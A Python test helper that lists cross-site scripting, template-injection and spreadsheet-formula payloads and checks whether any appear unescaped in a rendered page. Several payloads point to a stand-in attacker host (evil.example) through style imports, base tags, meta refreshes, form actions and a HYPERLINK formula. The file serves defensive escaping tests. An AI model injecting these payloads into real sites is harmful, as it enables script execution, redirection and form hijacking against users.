"""Texts that have been used to make a page run or show what it should not; for every field that holds words of outside."""

from __future__ import annotations

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<a href=javascript&colon;alert(1)>قصف</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>قصف</button></form>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "قصف <b>حمص</b> & «حماة»",
    "\u202e<script>\u2066alert(1)\u2069</script>",
    "\u2028\u2029<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '=HYPERLINK("https://evil.example";"x")',
    "]]><script>alert(1)</script>",
)


def find_live(page: str) -> list[str]:
    """The hostile texts that stand in the page with their angle brackets or quotes as they are. Empty: none would run."""
    risky = [text for text in HOSTILE if any(sign in text for sign in "<>\"'")]
    return [text for text in risky if text in page]
